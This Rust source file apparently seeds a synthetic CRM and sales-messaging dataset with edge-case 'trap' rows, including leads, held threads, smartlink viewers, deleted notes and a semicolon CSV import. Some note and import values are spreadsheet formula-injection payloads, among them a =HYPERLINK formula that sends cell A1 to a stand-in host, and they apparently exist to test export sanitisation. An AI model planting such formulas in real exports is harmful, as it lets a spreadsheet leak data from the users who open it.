//! Plants the rows of the traps; what and where they are, `crate::traps` says.

use super::Maker;
use super::crm::{instance_id, user_external_id};
use super::imports::{Line, Upload, upload};
use crate::error::Error;
use crate::files::{RawCsv, Stored, pdf};
use crate::schema::T;
use crate::sink::{Hundredths, Json, NULL, Uuid, row};
use crate::traps::{AWKWARD, PERSON_EVERYWHERE, Seats, person_everywhere};
use crate::world::{DAY, HOUR, MINUTE, Moment, Part, Seat};

pub fn plant(maker: &mut Maker<'_>) -> Result<(), Error> {
    let seats = Seats::of(maker.layout);
    leads(maker, &seats)?;
    threads(maker, &seats)?;
    smartlinks(maker, &seats)?;
    notes(maker, &seats)?;
    crm(maker, &seats)?;
    semicolons(maker, &seats)?;
    seat_management(maker, &seats)
}

/// Noon of the seat's last day of work.
fn late(seat: &Seat) -> Moment {
    seat.days.1.at(12 * HOUR)
}

fn leads(maker: &mut Maker<'_>, seats: &Seats) -> Result<(), Error> {
    let seat = &seats.ordinary;
    let assignment = seat.assignment_at(late(seat));
    maker.insert(T::SavedLead, row![1, seat.id, assignment, PERSON_EVERYWHERE, NULL, late(seat), "search", "contacted", true])?;
    let owner = &seats.leaver;
    maker.insert(T::LeadList, row![1, owner.contract, owner.id, "custom", "Champions of the North", late(owner)])?;
    for (colleague, permission) in [(&seats.ordinary, "edit"), (&seats.plain, "view")] {
        maker.insert(T::LeadListShare, row![1, colleague.id, permission, late(owner).plus(HOUR)])?;
    }
    maker.insert(T::LeadListItem, row![1, 1, PERSON_EVERYWHERE, owner.id, late(owner)])?;
    maker.insert(T::LeadListItem, row![2, 1, PERSON_EVERYWHERE + 1, seats.ordinary.id, late(owner).plus(DAY)])?;
    maker.insert(T::LeadList, row![2, seat.contract, seat.id, "custom", "@SUM(A1:A9)", late(seat)])?;
    let zero = &seats.zero;
    maker.insert(T::LeadList, row![0, zero.contract, zero.id, "custom", "List number nought", late(zero)])?;
    maker.insert(T::LeadListItem, row![3, 0, PERSON_EVERYWHERE, zero.id, late(zero)])?;
    maker.insert(T::SavedSearch, row![1, seat.id, "+1 (555) 0100", Json(r#"{"phone": "+1"}"#), false, late(seat)])
}

/// A thread of two messages; the second one has the id after the first.
fn thread(maker: &mut Maker<'_>, id: i64, seat: &Seat, subject: &str, last: i64) -> Result<(), Error> {
    let assignment = seat.assignment_at(late(seat));
    maker.insert(T::Thread, row![id, seat.id, assignment, "inmail_paid", subject, "accepted", false, last, late(seat)])?;
    maker.insert(T::ThreadParty, row![100 + 2 * id, id, NULL, seat.id, late(seat)])
}

/// Who wrote a message: a seat or a person.
#[derive(Clone, Copy)]
enum Sender {
    Seat(i64),
    Person(i64),
}

fn message(maker: &mut Maker<'_>, id: i64, thread: i64, sender: Sender, hold: Option<i64>, at: Moment, body: &str) -> Result<(), Error> {
    let (kind, seat, person) = match sender {
        Sender::Seat(seat) => ("seat", Some(seat), None),
        Sender::Person(person) => ("person", None, Some(person)),
    };
    let reply_to = (id % 10 != 0).then_some(id - 1);
    maker.insert(T::Message, row![id, thread, kind, seat, person, reply_to, NULL, NULL, hold, at, body, false, false, NULL, NULL])
}

fn attachment(maker: &mut Maker<'_>, id: i64, message: i64, stored: &Stored) -> Result<(), Error> {
    maker.insert(T::Attachment, row![id, message, "line-figures.pdf", "application/pdf", &stored.key, stored.size_bytes, &stored.sha256])
}

fn threads(maker: &mut Maker<'_>, seats: &Seats) -> Result<(), Error> {
    let ordinary = &seats.ordinary;
    thread(maker, 1, ordinary, "Everywhere at once", 11)?;
    maker.insert(T::ThreadParty, row![103, 1, PERSON_EVERYWHERE, NULL, late(ordinary)])?;
    message(maker, 10, 1, Sender::Seat(ordinary.id), None, late(ordinary), "Shall we meet?")?;
    message(maker, 11, 1, Sender::Person(PERSON_EVERYWHERE), None, late(ordinary).plus(HOUR), AWKWARD)?;

    let (ours, theirs) = (&seats.plain, &seats.other_side);
    thread(maker, 2, ours, "From seat to seat", 21)?;
    maker.insert(T::ThreadParty, row![105, 2, NULL, theirs.id, late(ours)])?;
    message(maker, 20, 2, Sender::Seat(ours.id), None, late(ours), "You sell to the same people as we do.")?;
    message(maker, 21, 2, Sender::Seat(theirs.id), None, late(ours).plus(HOUR), "Then let us not call on the same day.")?;

    let contract = maker.layout.contract(ours.contract);
    let placed = contract.starts_on;
    maker.insert(
        T::LegalHold,
        row![1, contract.id, "M-12", "dispute about a delivery", placed, maker.layout.options.today.minus(-90), NULL],
    )?;
    thread(maker, 3, ours, "The delivery of March", 31)?;
    message(maker, 30, 3, Sender::Seat(ours.id), None, late(ours), "As agreed, all pumps by Friday.")?;
    message(maker, 31, 3, Sender::Person(PERSON_EVERYWHERE + 1), Some(1), late(ours).plus(HOUR), "We never agreed on Friday.")?;
    maker.insert(T::ThreadParty, row![107, 3, PERSON_EVERYWHERE + 1, NULL, late(ours)])?;
    let held = maker.put("attachments/held/delivery.pdf".to_owned(), &pdf("Delivery", &["All pumps by Friday".to_owned()]))?;
    attachment(maker, 3, 31, &held)?;

    let second = &seats.second;
    let shared = maker.put("attachments/shared/line-figures.pdf".to_owned(), &pdf("Figures", &["Nine hours a month".to_owned()]))?;
    thread(maker, 4, ours, "Figures of the line", 40)?;
    message(maker, 40, 4, Sender::Seat(ours.id), None, late(ours), "The figures, as promised.")?;
    attachment(maker, 1, 40, &shared)?;
    thread(maker, 5, second, "Fwd: Figures of the line", 50)?;
    message(maker, 50, 5, Sender::Seat(second.id), None, late(second), "Forwarding what my colleague made.")?;
    attachment(maker, 2, 50, &shared)?;

    let zero = &seats.zero;
    thread(maker, 0, zero, "Thread number nought", 0)?;
    message(maker, 0, 0, Sender::Seat(zero.id), None, late(zero), "The first of all messages.")?;
    thread(maker, 6, ordinary, "Waiting for an answer", 60)?;
    message(maker, 60, 6, Sender::Seat(ordinary.id), None, late(ordinary), "May I remind you?")?;
    let due = maker.layout.options.today.at(9 * HOUR).plus(2 * DAY);
    maker.insert(T::ScheduledSend, row![1, ordinary.id, 6, due, "reminder", NULL, "waiting"])
}

fn smartlinks(maker: &mut Maker<'_>, seats: &Seats) -> Result<(), Error> {
    for (id, seat, title) in [(1, &seats.plain, "Two viewers, one address"), (2, &seats.second, "The other seat's")] {
        let mut random = maker.random(Part::Smartlinks, -1_000_000 - id);
        let at = late(seat).plus(-40 * DAY);
        let slug = format!("planted{id}");
        let assignment = seat.assignment_at(at);
        maker.insert(
            T::Presentation,
            row![id, seat.id, assignment, Uuid(random.uuid()), &slug, title, NULL, "active", true, Option::<&[u8]>::None, at, at],
        )?;
        let stored = maker.put(format!("smartlinks/{id}/1.pdf"), &pdf(title, &["One page".to_owned()]))?;
        maker.insert(
            T::SlAsset,
            row![id, id, 1, "file", "study.pdf", "application/pdf", NULL, &stored.key, stored.size_bytes, &stored.sha256, 1],
        )?;
    }
    let contract = seats.plain.contract;
    let (first, last) = (late(&seats.plain).plus(-30 * DAY), late(&seats.plain));
    let everywhere = person_everywhere(maker.layout);
    let email = maker.layout.register.person_email(&everywhere);
    let viewers = [
        (1, Some(PERSON_EVERYWHERE), everywhere.human.name(), email.as_str(), "signin"),
        (2, None, "Reception".to_owned(), "info@shared-desk.example", "self_entered"),
        (3, None, "Reception, second shift".to_owned(), "info@shared-desk.example", "self_entered"),
        (4, None, "Curious Reader".to_owned(), "reader@two-seats.example", "self_entered"),
    ];
    for (id, person, name, email, identified_by) in &viewers {
        maker.insert(T::SlViewer, row![*id, contract, *person, name, *email, NULL, *identified_by, first, last])?;
    }
    for (id, presentation, viewer) in [(1, 1, 1), (2, 1, 2), (3, 1, 3), (4, 1, 4), (5, 2, 4)] {
        let at = last.plus(-id * DAY);
        maker.insert(T::SlSession, row![id, presentation, viewer, at, 90, "desktop", "NL", false])?;
        maker.insert(T::SlPageView, row![id, presentation, 1, 90])?;
    }
    Ok(())
}

fn notes(maker: &mut Maker<'_>, seats: &Seats) -> Result<(), Error> {
    let seat = &seats.ordinary;
    let written = late(seat).plus(-5 * DAY);
    let formula = r#"=HYPERLINK("https://example.example/?q="&A1,"open")"#;
    let bodies = [(1, "Deleted, and still here.", Some(written.plus(DAY))), (2, formula, None), (3, AWKWARD, None)];
    for (id, body, deleted) in bodies {
        let assignment = seat.assignment_at(written);
        maker.insert(
            T::Note,
            row![id, seat.contract, seat.id, assignment, "lead", PERSON_EVERYWHERE, NULL, "private", body, written, deleted],
        )?;
    }
    maker.insert(T::NoteVersion, row![1, 1, "An earlier wording of what was deleted.", written.plus(-HOUR)])?;
    let zero = &seats.zero;
    let at = late(zero);
    let assignment = zero.assignment_at(at);
    let company = crate::traps::UNKNOWN_COMPANY;
    maker
        .insert(T::Note, row![0, zero.contract, zero.id, assignment, "account", NULL, company, "team", "Note number nought.", at, NULL])?;
    maker.insert(T::NoteShare, row![3, seats.plain.id, written.plus(HOUR)])
}

fn crm(maker: &mut Maker<'_>, seats: &Seats) -> Result<(), Error> {
    let seat = &seats.ordinary;
    let contract = maker.layout.contract(seat.contract);
    let instance = instance_id(contract);
    let external = "0035gEVERYWHERE";
    let at = late(seat);
    let fields = super::crm::person_fields(maker, &person_everywhere(maker.layout));
    let owner = user_external_id(seat.id);
    maker.insert(T::CrmRecord, row![instance, "contact", external, &owner, Json(&fields), "feed", at, NULL])?;
    maker
        .insert(T::CrmMatch, row![instance, "contact", external, "person", PERSON_EVERYWHERE, Hundredths(97), "confirmed", seat.id, at])?;
    maker.insert(T::CrmWriteback, row![1, instance, seat.id, "message", 10, "00T5gPLANTED", at])
}

/// The upload that regional settings of a spreadsheet made.
fn semicolons(maker: &mut Maker<'_>, seats: &Seats) -> Result<(), Error> {
    let seat = &seats.ordinary;
    let mut random = maker.random(Part::Imports, -1);
    let line = |name: &str, website: &str, company| Line { name: name.to_owned(), website: website.to_owned(), country: "DE", company };
    let lines = [
        line(r#"=HYPERLINK("https://example.example";"Contoso")"#, "one.example", Some(3)),
        line("Müller; Söhne & Co", "zwei.example", Some(4)),
        line("+49 Maschinen", "drei.example", None),
        line("@home", "vier.example", Some(5)),
        line("-", "", None),
    ];
    let raw = Upload {
        id: 1,
        contract: seat.contract,
        seat: seat.id,
        list: None,
        file_name: "gebiete süd.csv".to_owned(),
        at: late(seat).plus(-20 * DAY),
        form: RawCsv { delimiter: ';', byte_order_mark: true },
    };
    upload(maker, &raw, &lines, &mut random)
}

fn seat_management(maker: &mut Maker<'_>, seats: &Seats) -> Result<(), Error> {
    let seat = &seats.ordinary;
    let at = late(seat).plus(-60 * DAY);
    let admin = maker.layout.seat_id(maker.layout.contract(seat.contract), 0);
    maker.insert(T::AdminTag, row![1, seat.id, "quota:at-risk", true, admin, at])?;
    maker.insert(T::SeatSetting, row![seat.id, "", "a setting without a name", at])?;
    let signed = Json(r#"["admin of the origin"]"#);
    let requested = maker.layout.options.today.minus(2).at(9 * HOUR + 5 * MINUTE);
    maker.insert(T::SeatTransfer, row![1, seats.plain.id, seats.second.id, "manual", signed, "pending", requested, NULL])?;
    let member = seats.last_admin.holder();
    maker.insert(T::MemberEmail, row![1, member, "not-yet-confirmed@home.example", false, NULL, requested])
}
